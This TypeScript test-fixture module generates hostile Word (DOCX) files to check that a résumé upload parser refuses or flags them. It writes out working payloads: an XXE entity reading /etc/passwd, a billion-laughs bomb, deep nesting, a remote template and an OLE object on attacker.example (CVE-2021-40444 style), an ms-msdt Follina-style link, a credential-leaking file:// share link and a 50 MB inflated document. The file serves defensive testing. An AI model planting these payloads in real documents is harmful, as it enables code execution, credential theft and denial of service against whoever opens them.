/** Hostile Word XML: entities, deep nesting, links fetched on opening, and a document of 50 MB. */
import {
  contentTypesXml,
  documentXml,
  docx,
  paragraphs,
  relationshipsXml,
  resumeLines,
  zipWithRepeatedEntry,
} from './hostile-bytes';
import { file, type HostileFile, junk, refused, utf8 } from './hostile-file';

/** Word XML that attacks the parser (entities, nesting, size) or makes Word fetch things when the file opens. */
export function officeXml(): HostileFile[] {
  const family = 'Office XML';
  const rels = (relationships: Parameters<typeof relationshipsXml>[0]) => ({
    'word/_rels/document.xml.rels': relationshipsXml(relationships),
  });
  const xxe = documentXml(
    paragraphs(resumeLines).replace('Jane Doe', 'Jane Doe &xxe;'),
    '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
  );
  const laughs = Array.from(
    { length: 9 },
    (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`,
  ).join('');
  const billionLaughs = documentXml(
    paragraphs(resumeLines).replace('Jane Doe', 'Jane Doe &lol9;'),
    `<!DOCTYPE w:document [<!ENTITY lol0 "lol">${laughs}]>`,
  );
  const deepBody = `${'<w:sdt><w:sdtContent>'.repeat(20_000)}${paragraphs(resumeLines)}${'</w:sdtContent></w:sdt>'.repeat(20_000)}`;
  // 1 MB of paragraphs of two words in a random order: it deflates about 30 times, under the zip-bomb ratio.
  const coin = junk(1024 * 1024, 42);
  const paragraphsOfNoise: string[] = [];
  for (let at = 0, size = 0; size < 1024 * 1024; at += 12) {
    const words = Array.from(coin.subarray(at, at + 12), (byte) => (byte & 1 ? 'engineer' : 'built'));
    const paragraph = `<w:p><w:r><w:t>${words.join(' ')}</w:t></w:r></w:p>`;
    paragraphsOfNoise.push(paragraph);
    size += paragraph.length;
  }
  const block = utf8(paragraphsOfNoise.join(''));
  return [
    file(
      family,
      'xxe.docx',
      docx({ document: xxe }),
      'an external entity reading /etc/passwd into the text',
      refused('low'),
    ),
    file(
      family,
      'billion-laughs.docx',
      docx({ document: billionLaughs }),
      'entities expanding to a billion "lol"s',
      refused('low'),
    ),
    file(
      family,
      'deep-xml.docx',
      docx({ document: documentXml(deepBody) }),
      'content controls nested 20,000 deep',
      refused('low'),
    ),
    file(
      family,
      'remote-template.docx',
      docx({
        entries: {
          'word/_rels/settings.xml.rels': relationshipsXml([
            ['attachedTemplate', 'https://attacker.example/template.dotm', true],
          ]),
          'word/settings.xml':
            '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:attachedTemplate r:id="rId1"/></w:settings>',
        },
      }),
      'a template fetched from the internet when the file opens',
      refused('high'),
    ),
    file(
      family,
      'remote-object.docx',
      docx({
        entries: rels([
          ['oleObject', 'mhtml:https://attacker.example/x.html!x-usc:https://attacker.example/x.html', true],
        ]),
      }),
      'an OLE object loaded from another location (CVE-2021-40444 style)',
      refused('high'),
    ),
    file(
      family,
      'msdt-link.docx',
      docx({ entries: rels([['hyperlink', 'ms-msdt:/id PCWDiagnostic /skip force', true]]) }),
      'a link starting a Windows diagnostic tool (Follina style)',
      refused('high'),
    ),
    file(
      family,
      'remote-image.docx',
      docx({ entries: rels([['image', 'https://tracker.example/pixel.png', true]]) }),
      'a picture fetched from the internet when the file opens (a tracking pixel)',
      { resume: 'accepted', validate: 'flagged', risk: 'medium' },
    ),
    file(
      family,
      'network-share-link.docx',
      docx({ entries: rels([['hyperlink', 'file://attacker.example/share/cv.docx', true]]) }),
      'a link to a network share (leaks Windows credentials when clicked)',
      { resume: 'accepted', validate: 'flagged', risk: 'medium' },
    ),
    file(
      family,
      'fifty-megabyte-document.docx',
      zipWithRepeatedEntry(
        {
          '[Content_Types].xml': utf8(contentTypesXml()),
          '_rels/.rels': utf8(relationshipsXml([['officeDocument', 'word/document.xml']])),
        },
        {
          name: 'word/document.xml',
          block,
          times: 50,
          prefix: utf8(documentXml('').replace('</w:body></w:document>', '')),
          suffix: utf8('</w:body></w:document>'),
        },
      ),
      'a DOCX whose document.xml is 50 MB uncompressed (1.5 MB packed, under the zip-bomb ratio)',
      refused('low'),
    ),
  ];
}
